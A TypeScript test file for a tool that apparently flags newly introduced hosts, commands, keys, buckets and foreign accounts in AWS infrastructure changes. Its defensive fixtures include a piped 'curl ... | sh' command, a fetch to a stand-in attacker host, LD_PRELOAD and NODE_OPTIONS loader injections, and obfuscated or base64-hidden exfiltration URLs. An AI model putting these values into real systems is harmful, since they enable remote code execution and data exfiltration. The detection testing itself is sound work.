import { describe, expect, it } from 'vitest';
import type { Json } from '../../src/core/digest.ts';
import { opened } from '../../src/core/leaves.ts';
import { awsRules } from '../../src/providers/aws/rules.ts';
import { namedIn } from '../../src/render/subject.ts';
import { plan } from '../guards/builders.ts';

function named(before: Json | null, after: Json, known: string[] = []) {
  const side = (properties: Json | null) => (properties === null ? null : { Properties: opened(properties) });
  const things = [{ kind: 'resource' as const, id: 'It', type: 'AWS::X', before: side(before), after: side(after) }];
  const { target } = plan();
  return namedIn({
    plan: plan({ target: { ...target, account: '123456789012' } }),
    picture: { things },
    knownAccounts: known,
    hosts: awsRules.hosts,
  }).map(({ kind, value }) => `${kind}: ${value}`);
}

describe('what is newly named', () => {
  it.each<[string, Json | null, Json, string[]]>([
    ['a host', { Host: 'api.acme.example' }, { Host: 'api.evil.example' }, ['host: api.evil.example']],
    ...[
      'ec2-203-0-113-9.eu-west-1.compute.amazonaws.com',
      'ec2-203-0-113-9.compute-1.amazonaws.com',
      'evil-1.eu-west-1.elb.amazonaws.com',
      'evil.s3.amazonaws.com',
      'evil.s3.eu-west-1.amazonaws.com',
      'db.c0ffee.eu-west-1.rds.amazonaws.com',
      'abc.execute-api.eu-west-1.amazonaws.com',
      'collect.evil.sh',
      'collect.evil.md',
      'API.EVIL.EXAMPLE',
      '2001:db8:1::9',
      'collector',
      'b\u{fc}cher.example',
    ].map((host): [string, Json, Json, string[]] => [
      `the host ${host}`,
      { Variables: { API_HOST: 'api.acme.example' } },
      { Variables: { API_HOST: host } },
      [`host: ${host}`],
    ]),
    ...[
      'https://ec2-203-0-113-9.eu-west-1.compute.amazonaws.com/in',
      'https://s3.eu-west-1.amazonaws.com/evil/in',
      'http://3405803785/',
      'http://0xcb007109/',
      'http://[2001:db8:1::9]/',
      'https://api.evil\u{3002}example/in',
      'https:\\/\\/api.evil.example\\/in',
      'https://api.acme.example@evil.example/',
      'jdbc:postgresql://evil.example:5432/db',
      'https://$' + '{Queue.QueueName}.evil.example/in',
    ].map((url): [string, Json, Json, string[]] => [
      `the URL ${url}`,
      {},
      { Any: url },
      [`host: ${url.replace('jdbc:', '')}`],
    ]),
    ['the port of a host', { Proxy: 'a.example:1' }, { Proxy: 'b.example:2' }, ['host: b.example']],
    [
      'what a runtime loads',
      {},
      { Variables: { NODE_OPTIONS: '--require /tmp/a.js' } },
      ['command: --require /tmp/a.js'],
    ],
    ['what a loader loads', {}, { Environment: [{ Name: 'LD_PRELOAD', Value: '/opt/a' }] }, ['command: /opt/a']],
    ['what a service starts', {}, { CodeConfigurationValues: { StartCommand: 'node b' } }, ['command: node b']],
    ['a step of a job', {}, { HadoopJarStep: { Args: ['x'] } }, ['command: x']],
    ['a key to log in by its name', {}, { RemoteAccess: { Ec2SshKey: 'mallory' } }, ['key: mallory']],
    [
      'where code comes from',
      { Code: { S3Bucket: 'acme', S3Key: '1.zip' } },
      { Code: { S3Bucket: 'acrne', S3Key: '2.zip' } },
      ['code: acrne'],
    ],
    [
      'a template of another place',
      {},
      { TemplateURL: 'https://acme-t.s3.eu-west-1.amazonaws.com/a.yaml' },
      ['code: https://acme-t.s3.eu-west-1.amazonaws.com/a.yaml'],
    ],
    [
      'a bucket that data go to',
      { Destination: { BucketARN: 'arn:aws:s3:::acme' } },
      { Destination: { BucketARN: 'arn:aws:s3:::acme-2' } },
      ['bucket: arn:aws:s3:::acme-2'],
    ],
    ['a location', { OutputLocation: 's3://acme/q' }, { OutputLocation: 's3://acme-2/q' }, ['bucket: s3://acme-2']],
    ['a bucket by its name', { S3BucketName: 'acme' }, { S3BucketName: 'acme-2' }, ['bucket: acme-2']],
    ['a URL', null, { Code: "fetch('https://evil.example/x')" }, ['host: https://evil.example/x']],
    ['an address', {}, { Host: '203.0.113.7' }, ['host: 203.0.113.7']],
    [
      'a foreign account in an ARN',
      {},
      { Arn: 'arn:aws:iam::604417839920:role/x' },
      ['account: arn:aws:iam::604417839920:role/x'],
    ],
    ['a foreign account alone', {}, { Accounts: ['604417839920'] }, ['account: 604417839920']],
    [
      'everybody',
      {},
      { Policy: { Statement: [{ Principal: '*' }] } },
      ['everybody: everybody (Properties.Policy.Statement.0.Principal)'],
    ],
    [
      'a principal of our own',
      {},
      { Policy: { Statement: [{ Principal: { AWS: 'arn:aws:iam::123456789012:role/x' } }] } },
      ['principal: arn:aws:iam::123456789012:role/x'],
    ],
    ['an access key', {}, { Value: 'AKIAIOSFODNN7EXAMPLE' }, ['key: AKIAIOSFODNN7EXAMPLE']],
    [
      'a piped script',
      {},
      { Any: 'curl -s http://203.0.113.7/a | sh' },
      ['host: http://203.0.113.7/a', 'command: curl -s http://203.0.113.7/a | sh'],
    ],
    [
      'a host in JSON in base64',
      {},
      { Data: Buffer.from('{"url":"https://evil.example/x"}').toString('base64') },
      ['host: https://evil.example/x'],
    ],
    [
      'a condition that goes',
      { Statement: [{ Sid: 'A', Condition: { StringEquals: { 'sts:ExternalId': 'x' } } }] },
      { Statement: [{ Sid: 'A' }] },
      ['condition: x is no longer required'],
    ],
    ['a bucket of the world', {}, { BlockPublicAcls: false }, ['unguarded: BlockPublicAcls: false']],
  ])('%s', (_what, before, after, expected) => expect(named(before, after)).toEqual(expected));

  it.each<[string, Json | null, Json, string[]?]>([
    [
      'AWS itself',
      {},
      { Endpoint: 'https://sqs.eu-west-1.amazonaws.com/123456789012/q', Principal: { Service: 'lambda.amazonaws.com' } }
        .Endpoint as never,
    ],
    ...[
      'lambda.eu-west-1.amazonaws.com',
      'https://api.ecr.eu-west-1.amazonaws.com/',
      'sts.amazonaws.com',
      '123456789012.dkr.ecr.eu-west-1.amazonaws.com',
      'https://docs.aws.amazon.com/x',
    ].map((host): [string, Json, Json] => [`the service ${host}`, {}, { Variables: { SERVICE_ENDPOINT: host } }]),
    ['a variable of a program', {}, { Code: { ZipFile: 'async () => process.env.TABLE' } }],
    ['a kind of address', {}, { Domain: 'vpc', Address: '10.0.0.7', ServerAddress: 'localhost:80' }],
    ['a stage, or a key of data', {}, { Variables: { ENV: 'prod' }, KeyName: 'id' }],
    ['a bucket that a policy allows', {}, { Statement: [{ Resource: ['arn:aws:s3:::acme/*'] }] }],
    ['a bucket of this stack', {}, { S3BucketName: '$' + '{Logs}', Code: { S3Bucket: '$' + '{Artifacts}' } }],
    ['our own account', {}, { Arn: 'arn:aws:iam::123456789012:role/x' }],
    ['an account of the policy', {}, { Arn: 'arn:aws:iam::604417839920:role/x' }, ['604417839920']],
    [
      'what was named elsewhere in the stack before',
      { A: 'api.acme.example', B: 'x' },
      { A: 'api.acme.example', B: 'api.acme.example' },
    ],
    [
      'versions, files, types and handlers',
      {},
      {
        Handler: 'index.handler',
        File: 'main.py',
        Size: 't3.micro',
        Version: '1.2.3',
        Class: 'db.t3.medium',
        Ref: '$' + '{Fn.Arn}',
      },
    ],
    ['private addresses', {}, { Cidr: '10.0.0.1', Meta: '169.254.169.254' }],
  ])('is not %s', (_what, before, after, known) => expect(named(before, after, known)).toEqual([]));
});
